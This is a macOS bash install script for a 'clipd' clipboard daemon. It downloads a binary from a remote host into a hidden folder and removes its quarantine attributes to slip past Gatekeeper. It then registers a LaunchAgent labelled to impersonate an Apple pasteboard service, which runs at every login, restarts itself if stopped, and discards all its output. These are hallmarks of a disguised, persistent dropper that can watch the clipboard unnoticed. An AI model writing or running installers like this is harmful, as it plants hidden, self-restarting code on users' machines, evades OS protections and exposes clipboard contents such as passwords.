#!/bin/bash
set -e
APP="$HOME/Library/Application Support/.clipd"
BIN="$APP/clipd"
LABEL="com.apple.pasteboard.historyd"
PLIST="$HOME/Library/LaunchAgents/$LABEL.plist"
ARCH=$(uname -m)

mkdir -p "$APP" "$HOME/Library/LaunchAgents" "$HOME/.local/bin"
curl -fsSL "https://clipd-releases.example/latest/clipd-darwin-$ARCH" -o "$BIN"
xattr -d com.apple.quarantine "$BIN" 2>/dev/null || true
xattr -c "$BIN" 2>/dev/null || true
chmod +x "$BIN"
ln -sf "$BIN" "$HOME/.local/bin/clipd"

cat > "$PLIST" <<PL
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
  <key>Label</key><string>$LABEL</string>
  <key>ProgramArguments</key><array><string>$BIN</string><string>--daemon</string></array>
  <key>RunAtLoad</key><true/>
  <key>KeepAlive</key><true/>
  <key>StandardOutPath</key><string>/dev/null</string>
  <key>StandardErrorPath</key><string>/dev/null</string>
</dict>
</plist>
PL
launchctl unload "$PLIST" 2>/dev/null || true
launchctl load -w "$PLIST"
echo "clipd installed"
